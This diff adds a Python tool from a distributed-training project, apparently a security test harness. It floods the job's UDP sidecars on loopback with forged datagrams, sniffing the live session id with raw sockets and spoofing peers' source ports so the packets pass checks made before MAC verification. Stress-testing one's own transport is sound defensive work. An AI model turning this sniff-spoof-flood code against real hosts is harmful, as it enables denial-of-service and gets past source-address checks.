@@ -1,0 +1,178 @@
+"""Forged UDP flood at a job's sidecars during training (``docs/security.md``).
+
+Only for loopback. With ``--base-port`` the job's UDP ports are known (rank r, channel c
+at ``base + 10 r + c``). Every datagram is a full-size BLOCKS datagram of this job's
+shape: with ``--sniff`` (root) the session id and the newest iteration are read off
+``lo``, so the forgeries carry the real session, a real sender, the receiving shard and
+the current iteration, i.e. they pass every check a receiver can make before the MAC.
+With ``--spoof`` (root, raw socket) each one is sent from a peer's own channel socket
+address (127.0.0.1, the peer's port), so it is not refused as ``unknown_source``:
+the worst a host on the path can send. Paced to ``--rate`` datagrams/s per sidecar.
+
+``python -m dgt.tools.flood --base-port B --world 3 --rate 20000 --duration-s 60 --sniff --spoof``
+"""
+from __future__ import annotations
+
+import argparse
+import json
+import random
+import signal
+import socket
+import struct
+import sys
+import threading
+import time
+
+from ..transport import wire
+from .attack import STRANGER_ADDRESS
+
+
+class IterationSniffer(threading.Thread):
+    """Keeps the session id and the newest iteration of the dgt TCP frames to ``ports``
+    (the job's TCP ports: never our own datagrams)."""
+
+    def __init__(self, ports: set[int]):
+        super().__init__(daemon=True)
+        self.ports = ports
+        self.session: int | None = None
+        self.iteration = 0
+        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
+        self.sock.bind(("lo", 0))
+        self.sock.settimeout(0.2)
+        self.stop = False
+
+    def run(self) -> None:
+        me = socket.inet_aton(STRANGER_ADDRESS)
+        while not self.stop:
+            try:
+                pkt = self.sock.recv(65535)
+            except OSError:
+                continue
+            if len(pkt) < 14 + 40 + wire.HEADER_BYTES or pkt[12:14] != b"\x08\x00" \
+                    or pkt[14 + 9] != 6 or pkt[14 + 12:14 + 16] == me:
+                continue
+            ihl = (pkt[14] & 0x0F) * 4
+            tcp = pkt[14 + ihl:]
+            if struct.unpack_from("!H", tcp, 2)[0] not in self.ports:
+                continue
+            d = tcp[(tcp[12] >> 4) * 4:]
+            if d[:3] == b"DG\x01" and len(d) >= wire.HEADER_BYTES:
+                self.session = struct.unpack_from("!Q", d, 6)[0]
+                self.iteration = max(self.iteration, struct.unpack_from("!I", d, 18)[0])
+        self.sock.close()
+
+
+def _checksum(b: bytes) -> int:
+    if len(b) % 2:
+        b += b"\0"
+    s = sum(struct.unpack(f"!{len(b) // 2}H", b))
+    s = (s >> 16) + (s & 0xFFFF)
+    s += s >> 16
+    return ~s & 0xFFFF
+
+
+def _raw_udp(src: tuple[str, int], dst: tuple[str, int], payload: bytes) -> bytes:
+    """An IPv4 + UDP packet (UDP checksum 0: none, allowed on IPv4)."""
+    ulen = 8 + len(payload)
+    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + ulen, 0, 0x4000, 64, 17, 0,
+                     socket.inet_aton(src[0]), socket.inet_aton(dst[0]))
+    ip = ip[:10] + struct.pack("!H", _checksum(ip)) + ip[12:]
+    return ip + struct.pack("!HHHH", src[1], dst[1], ulen, 0) + payload
+
+
+def flood(host: str, base_port: int, world: int, channels: int, rate: float,
+          duration_s: float, sniff: bool, spoof: bool, keyed: bool = False,
+          block_bytes: int = 1408, seed: int = 0,
+          stop: threading.Event | None = None) -> dict:
+    """Send forged BLOCKS datagrams at ``rate`` per second to every sidecar; return
+    counts. Raises PermissionError for ``sniff``/``spoof`` without root."""
+    if not host.startswith("127."):
+        raise ValueError(f"{host} is not a loopback address: flood only your own host")
+    rng = random.Random(seed)
+    udp_ports = {r: [base_port + 10 * r + c for c in range(1, channels + 1)]
+                 for r in range(world)}
+    sniffer = IterationSniffer({base_port + 10 * r for r in range(world)}) if sniff else None
+    if sniffer:
+        sniffer.start()
+    if spoof:
+        out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    else:
+        out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        out.bind((STRANGER_ADDRESS, 0))
+    payload = bytes(block_bytes)
+    sent = {"datagrams": 0, "errors": 0, "session_sniffed": False}
+    pool: list = []   # (packet, destination) ready to send, rebuilt per (session, t)
+    pool_key = None
+    stranger_session = rng.getrandbits(64)
+    t0 = time.monotonic()
+    t_end = t0 + duration_s
+    try:
+        while time.monotonic() < t_end and not (stop is not None and stop.is_set()):
+            due = int((time.monotonic() - t0) * rate)
+            session = sniffer.session if sniffer and sniffer.session is not None \
+                else stranger_session
+            it = sniffer.iteration if sniffer else 0
+            sent["session_sniffed"] = bool(sniffer and sniffer.session is not None)
+            if pool_key != (session, it):   # a pool of ready packets per round
+                pool_key, pool = (session, it), []
+                for _ in range(64):
+                    for r in range(world):
+                        w = rng.choice([x for x in range(world) if x != r] or [0])
+                        c = rng.randrange(1, channels + 1)
+                        d = wire.encode(wire.MsgType.BLOCKS, session=session, sender=w,
+                                        shard=r, iteration=it, channel=c,
+                                        block=rng.randrange(1 << 16), count=1,
+                                        payload=payload,
+                                        flags=wire.Flag.MAC if keyed else 0)
+                        if keyed:   # a MAC flag and a junk tag: the receiver hashes it
+                            d += rng.randbytes(wire.MAC_BYTES)
+                        dst = (host, udp_ports[r][c - 1])
+                        pool.append((_raw_udp((host, udp_ports[w][c - 1]), dst, d), (host, 0))
+                                    if spoof else (d, dst))
+            n = min(due * world - sent["datagrams"], 4000)
+            for i in range(max(n, 0)):
+                pkt, dst = pool[i % len(pool)]
+                try:
+                    out.sendto(pkt, dst)
+                    sent["datagrams"] += 1
+                except OSError:
+                    sent["errors"] += 1
+            time.sleep(0.002)
+    finally:
+        out.close()
+        if sniffer:
+            sniffer.stop = True
+    sent["seconds"] = round(time.monotonic() - t0, 1)
+    sent["rate_per_sidecar"] = round(sent["datagrams"] / world / max(sent["seconds"], 1e-9))
+    return sent
+
+
+def main(argv: list[str] | None = None) -> int:
+    p = argparse.ArgumentParser(prog="python -m dgt.tools.flood",
+                                description=__doc__.split("\n")[0])
+    p.add_argument("--host", default="127.0.0.1")
+    p.add_argument("--base-port", type=int, required=True)
+    p.add_argument("--world", type=int, required=True)
+    p.add_argument("--channels", type=int, default=3)
+    p.add_argument("--rate", type=float, default=20000, help="datagrams/s per sidecar")
+    p.add_argument("--duration-s", type=float, default=60)
+    p.add_argument("--sniff", action="store_true", help="learn session/iteration on lo")
+    p.add_argument("--spoof", action="store_true", help="send from the peers' ports (raw)")
+    p.add_argument("--keyed", action="store_true",
+                   help="the job runs with --secret: forge a MAC flag and a junk tag, so "
+                        "the datagrams have the real ones' size")
+    ns = p.parse_args(argv)
+    stop = threading.Event()   # SIGTERM ends the flood early, with its counts printed
+    signal.signal(signal.SIGTERM, lambda *_: stop.set())
+    try:
+        out = flood(ns.host, ns.base_port, ns.world, ns.channels, ns.rate, ns.duration_s,
+                    ns.sniff, ns.spoof, ns.keyed, stop=stop)
+    except (ValueError, PermissionError) as e:
+        print(f"flood: error: {e}", file=sys.stderr)
+        return 2
+    print(json.dumps(out))
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
